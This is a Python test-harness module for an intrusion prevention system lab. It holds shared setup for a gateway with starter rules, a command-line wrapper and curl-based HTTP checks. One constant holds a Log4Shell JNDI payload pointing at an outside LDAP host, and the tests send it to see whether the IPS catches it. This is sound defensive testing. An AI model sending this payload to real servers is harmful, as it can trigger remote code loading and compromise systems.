"""What tests of the IPS share: a web server behind the starter set of rules, attacks, the command line."""

import subprocess

from harness import ROOT, SERVER, LabTest, rule, services

LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
INSPECTED = rule("inspected", "allow", profile="office")


def profile(**ips):
    return [{"name": "office", "ips": ips}]


class InspectingTest(LabTest):
    """A class whose gateway inspects what a firewall rule allows."""

    wanted_services = (services.web,)
    lab_options = {"rule_packs": str(ROOT / "rules/ips/starter")}

    def setUp(self):
        self.apply_inspection()
        self.seen = len(self.events("alert"))

    def apply_inspection(self, *own_rules, **ips):
        return self.apply(INSPECTED, profiles=profile(**ips), ips_rules=list(own_rules))

    def alerts(self):
        return self.events("alert")[self.seen:]

    def cli(self, *arguments, check=True):
        from sekisho_lab.gateway import binaries
        command = self.gateway.inside([binaries() / "sekisho", "--run-dir", self.gateway.run_dir, *arguments])
        return subprocess.run(list(map(str, command)), check=check, capture_output=True, text=True)

    def answer(self, path, address=SERVER.ipv4):
        """The status that the server answers with; None when nothing comes."""
        host = f"[{address}]" if ":" in address else address
        asked = self.lab.run("client", "curl", "-s", "-g", "-m", 3, "-o", "/dev/null", "-w", "%{http_code}",
                             f"http://{host}{path}", check=False)
        return int(asked.stdout) or None

    def attack(self, address=SERVER.ipv4):
        return self.answer(LOG4SHELL, address)
